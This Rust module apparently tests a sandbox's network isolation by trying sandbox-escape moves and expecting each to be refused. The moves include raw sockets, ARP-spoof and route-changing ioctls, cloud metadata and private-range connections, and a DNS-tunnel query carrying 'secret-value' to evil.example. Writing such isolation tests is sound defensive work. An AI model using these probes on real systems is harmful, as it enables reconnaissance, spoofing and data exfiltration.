//! The network: frames, other families, other machines, and the settings of its own namespace.
//!
//! What is told is a list of addresses of the machine, its neighbours and the platform, as `address:port`.

#![expect(unsafe_code, reason = "system calls are tried as they are")]

use std::{
    io,
    net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket},
    os::{fd::AsRawFd as _, unix::net::UnixStream},
    time::Duration,
};

use nix::libc::{self, c_int, syscall};

use crate::{Attempt, Verdict, refused, refused_as, refused_io};

/// How a namespace that leads nowhere says so.
const NO_WAY: [i32; 4] = [libc::ENETUNREACH, libc::EHOSTUNREACH, libc::EADDRNOTAVAIL, libc::EAFNOSUPPORT];

/// The same, and what a filter does: the connection never comes about.
fn no_connection(result: io::Result<impl Sized>) -> Verdict {
    match result {
        Ok(_) => Err("it connected".to_owned()),
        Err(error) if error.kind() == io::ErrorKind::TimedOut => Ok("no answer".to_owned()),
        other => refused_io(other.map(drop), &NO_WAY),
    }
}

fn connects(address: SocketAddr) -> Verdict {
    no_connection(TcpStream::connect_timeout(&address, Duration::from_millis(700)))
}

/// Tries every address that was told.
fn connects_to_all(told: &str) -> Verdict {
    let addresses: Vec<SocketAddr> = told.split(' ').filter_map(|address| address.parse().ok()).collect();
    if addresses.is_empty() {
        return Err("not told of an address".to_owned());
    }
    for address in &addresses {
        connects(*address).map_err(|why| format!("{address}: {why}"))?;
    }
    Ok(format!("{} addresses", addresses.len()))
}

fn sends(to: &str, payload: &[u8]) -> Verdict {
    let to: SocketAddr = to.parse().map_err(|_| "not an address".to_owned())?;
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|error| error.to_string())?;
    let _ = socket.set_broadcast(true);
    let _ = socket.set_read_timeout(Some(Duration::from_millis(700)));
    match socket.send_to(payload, to) {
        Ok(_) => no_connection(socket.recv(&mut [0; 512]).map_err(|error| match error.kind() {
            io::ErrorKind::WouldBlock => io::ErrorKind::TimedOut.into(),
            _ => error,
        })),
        Err(error) => refused_io(Err::<(), _>(error), &[&NO_WAY[..], &[libc::EPERM, libc::EACCES]].concat()),
    }
}

/// Secrets in names: each label goes to whoever answers for the domain, if anybody is asked at all.
fn tunnels() -> Verdict {
    let resolver = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let named = resolver.lines().find_map(|line| line.strip_prefix("nameserver "));
    for server in [named.unwrap_or("127.0.0.1"), "127.0.0.1", "203.0.113.10", "10.0.0.2"] {
        let query = b"\0\x07\x01\0\0\x01\0\0\0\0\0\0\x0csecret-value\x04evil\x07example\0\0\x10\0\x01";
        let socket = UdpSocket::bind("0.0.0.0:0").map_err(|error| error.to_string())?;
        let _ = socket.set_read_timeout(Some(Duration::from_millis(500)));
        let asked =
            socket.connect((server, 53)).and_then(|()| socket.send(query)).and_then(|_| socket.recv(&mut [0; 512]));
        if asked.is_ok() {
            return Err(format!("{server} answered"));
        }
    }
    Ok("nobody answers".to_owned())
}

fn socket(family: c_int, kind: c_int, protocol: c_int) -> Verdict {
    // SAFETY: numbers only.
    refused(unsafe { syscall(libc::SYS_socket, family, kind, protocol) })
}

/// The kernel makes both ends of any family before it says that there are no pairs of it.
fn pair(family: c_int, kind: c_int, protocol: c_int) -> Verdict {
    let mut ends = [0_i32; 2];
    // SAFETY: the kernel writes two numbers.
    refused(unsafe { syscall(libc::SYS_socketpair, family, kind, protocol, ends.as_mut_ptr()) })
}

fn ping(to: Ipv4Addr) -> Verdict {
    // SAFETY: numbers only.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP) };
    if fd < 0 {
        return refused(-1);
    }
    let address = libc::sockaddr_in {
        sin_family: 2,
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from(to).to_be() },
        sin_zero: [0; 8],
    };
    let packet = [8_u8, 0, 0, 0, 0, 1, 0, 1];
    let length = libc::socklen_t::try_from(size_of_val(&address)).unwrap_or(16);
    // SAFETY: the packet and the address outlive the call and have the lengths that are given.
    let sent =
        unsafe { libc::sendto(fd, packet.as_ptr().cast(), packet.len(), 0, (&raw const address).cast(), length) };
    refused_as(sent.try_into().unwrap_or(0), &NO_WAY)
}

/// Changes of the interface, the routes and the neighbours of its own namespace.
fn changes(request: libc::Ioctl) -> Verdict {
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|error| error.to_string())?;
    let mut large = [0_u8; 128];
    large[..2].copy_from_slice(b"lo");
    // SAFETY: the kernel reads at most 128 bytes for these requests.
    refused(unsafe { libc::ioctl(socket.as_raw_fd(), request, large.as_mut_ptr()) }.into())
}

/// A new interface, by the kernel's own language.
fn makes_interface() -> Verdict {
    // SAFETY: numbers only.
    let fd = unsafe { libc::socket(libc::AF_NETLINK, libc::SOCK_DGRAM, 0) };
    if fd < 0 {
        return refused(-1);
    }
    // RTM_NEWLINK, create and acknowledge; IFLA_IFNAME `x`, IFLA_LINKINFO kind `dummy`
    let mut message = vec![0_u8; 32];
    message[4..6].copy_from_slice(&16_u16.to_ne_bytes());
    message[6..8].copy_from_slice(&(0x1_u16 | 0x4 | 0x400).to_ne_bytes());
    message.extend(b"\x06\0\x03\0x\0\0\0\x10\0\x12\0\x0a\0\x01\0dummy\0\0\0");
    let length = u32::try_from(message.len()).unwrap_or(0);
    message[..4].copy_from_slice(&length.to_ne_bytes());
    let mut answer = [0_u8; 256];
    // SAFETY: both buffers outlive the calls and have the lengths that are given.
    let received = unsafe {
        libc::send(fd, message.as_ptr().cast(), message.len(), 0);
        libc::recv(fd, answer.as_mut_ptr().cast(), answer.len(), 0)
    };
    let code = i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]);
    match (received, -code) {
        (-1, _) => refused(-1),
        (_, libc::EPERM) => Ok("not permitted".to_owned()),
        (_, other) => Err(format!("answered {other}")),
    }
}

fn abstract_socket(told: &str) -> Verdict {
    use std::os::linux::net::SocketAddrExt as _;
    let name = told.split(' ').next().unwrap_or_default();
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name).map_err(|error| error.to_string())?;
    refused_io(UnixStream::connect_addr(&address), &[libc::ECONNREFUSED])
}

pub(super) const ALL: &[Attempt] = &[
    ("raw-icmp", |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)),
    ("raw-tcp", |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP)),
    ("raw-ipv6", |_| socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)),
    ("frames-raw", |_| socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300)),
    ("frames-datagram", |_| socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0x0300)),
    ("vsock", |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
    ("kernel-crypto", |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
    ("packet-filter", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER)),
    ("kernel-events", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT)),
    ("audit", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT)),
    ("bluetooth", |_| socket(libc::AF_BLUETOOTH, libc::SOCK_RAW, 1)),
    ("can-bus", |_| socket(libc::AF_CAN, libc::SOCK_RAW, 1)),
    ("tipc", |_| socket(libc::AF_TIPC, libc::SOCK_STREAM, 0)),
    ("tipc-pair", |_| pair(libc::AF_TIPC, libc::SOCK_STREAM, 0)),
    ("vsock-pair", |_| pair(libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
    ("packet-filter-pair", |_| pair(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER)),
    ("sctp", |_| socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_SCTP)),
    ("sctp-packets", |_| socket(libc::AF_INET6, libc::SOCK_SEQPACKET, libc::IPPROTO_SCTP)),
    ("udp-lite", |_| socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)),
    ("multipath-tcp", |_| socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)),
    ("xdp", |_| socket(libc::AF_XDP, libc::SOCK_RAW, 0)),
    ("arp-spoof", |_| changes(libc::SIOCSARP)),
    ("take-address", |_| changes(libc::SIOCSIFADDR)),
    ("take-mac", |_| changes(libc::SIOCSIFHWADDR)),
    ("add-route", |_| changes(libc::SIOCADDRT)),
    ("make-interface", |_| makes_interface()),
    ("metadata", |_| connects(([169, 254, 169, 254], 80).into())),
    ("machine-and-neighbours", connects_to_all),
    ("private-10", |_| connects(([10, 0, 0, 1], 443).into())),
    ("private-172", |_| connects(([172, 16, 0, 1], 443).into())),
    ("private-192", |_| connects(([192, 168, 0, 1], 443).into())),
    ("shared-100", |_| connects(([100, 64, 0, 1], 443).into())),
    ("ipv6-link-local", |_| connects("[fe80::1%1]:80".parse().unwrap_or_else(|_| ([0, 0, 0, 0], 9).into()))),
    ("ipv6-unique-local", |_| connects(([0xfd00, 0, 0, 0, 0, 0, 0, 1], 80).into())),
    ("multicast", |_| sends("224.0.0.251:5353", b"x")),
    ("broadcast", |_| sends("255.255.255.255:67", b"x")),
    ("dns-tunnel", |_| tunnels()),
    ("abstract-socket", abstract_socket),
];

/// What only a replica without any egress fails at.
pub(super) const OUTWARD: &[Attempt] = &[
    ("internet-tcp", |_| connects(([203, 0, 113, 7], 443).into())),
    ("internet-udp", |_| sends("203.0.113.8:53", b"x")),
    ("internet-icmp", |_| ping(Ipv4Addr::new(203, 0, 113, 9))),
    ("internet-ipv6", |_| connects(([0x2606, 0x4700, 0, 0, 0, 0, 0, 0x1111], 443).into())),
];
